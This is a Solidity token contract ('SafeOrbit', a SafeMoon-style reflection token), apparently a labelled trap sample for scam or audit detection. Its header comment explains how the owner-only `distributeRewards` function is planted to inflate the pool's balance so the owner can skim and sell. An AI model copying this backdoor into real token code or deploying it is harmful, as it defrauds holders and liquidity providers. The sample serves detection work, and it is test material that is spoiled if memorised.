// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {EPair} from "./Pair.sol";

// Trap: the SafeMoon reflection template, whose `deliver` was replaced by an owner's one that pays nothing itself: rTotal shrinks, every included balance grows, the pool's too, and the owner skims and sells. Sprung by: owner.distributeRewards(900M), pair.skim(owner).
contract EReflect is Ownable {
    string public constant name = "SafeOrbit";
    string public constant symbol = "SORB";
    uint8 public constant decimals = 9;
    uint256 private constant MAX = ~uint256(0);
    uint256 private constant _tTotal = 1_000_000_000 * 1e9;
    uint256 private _rTotal = MAX - (MAX % _tTotal);
    uint256 private _tFeeTotal;
    mapping(address => uint256) private _rOwned;
    mapping(address => uint256) private _tOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) private _isExcludedFromFee;
    mapping(address => bool) private _isExcluded;
    address[] private _excluded;
    uint256 public taxFee = 2;
    uint256 public marketingFee = 2;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() Ownable(msg.sender) {
        _rOwned[msg.sender] = _rTotal;
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function totalSupply() external pure returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        if (_isExcluded[account]) return _tOwned[account];
        return tokenFromReflection(_rOwned[account]);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function allowance(address owner_, address spender) external view returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        _allowances[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function totalFees() external view returns (uint256) {
        return _tFeeTotal;
    }

    function distributeRewards(uint256 tAmount) external onlyOwner {
        require(!_isExcluded[msg.sender], "Excluded addresses cannot call this function");
        uint256 rAmount = tAmount * _getRate();
        _rTotal -= rAmount;
        _tFeeTotal += tAmount;
    }

    function tokenFromReflection(uint256 rAmount) public view returns (uint256) {
        return rAmount / _getRate();
    }

    function excludeFromReward(address account) external onlyOwner {
        require(!_isExcluded[account], "Account is already excluded");
        if (_rOwned[account] > 0) _tOwned[account] = tokenFromReflection(_rOwned[account]);
        _isExcluded[account] = true;
        _excluded.push(account);
    }

    function excludeFromFee(address account) external onlyOwner {
        _isExcludedFromFee[account] = true;
    }

    function _getRate() private view returns (uint256) {
        (uint256 rSupply, uint256 tSupply) = (_rTotal, _tTotal);
        for (uint256 i = 0; i < _excluded.length; i++) {
            address each = _excluded[i];
            if (_rOwned[each] > rSupply || _tOwned[each] > tSupply) return _rTotal / _tTotal;
            rSupply -= _rOwned[each];
            tSupply -= _tOwned[each];
        }
        if (rSupply < _rTotal / _tTotal) return _rTotal / _tTotal;
        return rSupply / tSupply;
    }

    function _transfer(address from, address to, uint256 tAmount) private {
        require(from != address(0) && to != address(0), "zero");
        bool takeFee = !(_isExcludedFromFee[from] || _isExcludedFromFee[to]);
        uint256 rate = _getRate();
        uint256 tFee = takeFee ? (tAmount * taxFee) / 100 : 0;
        uint256 tMarketing = takeFee ? (tAmount * marketingFee) / 100 : 0;
        uint256 tTransfer = tAmount - tFee - tMarketing;
        _rOwned[from] -= tAmount * rate;
        if (_isExcluded[from]) _tOwned[from] -= tAmount;
        _rOwned[to] += tTransfer * rate;
        if (_isExcluded[to]) _tOwned[to] += tTransfer;
        if (tMarketing > 0) _rOwned[address(this)] += tMarketing * rate;
        _rTotal -= tFee * rate;
        _tFeeTotal += tFee;
        emit Transfer(from, to, tTransfer);
    }
}
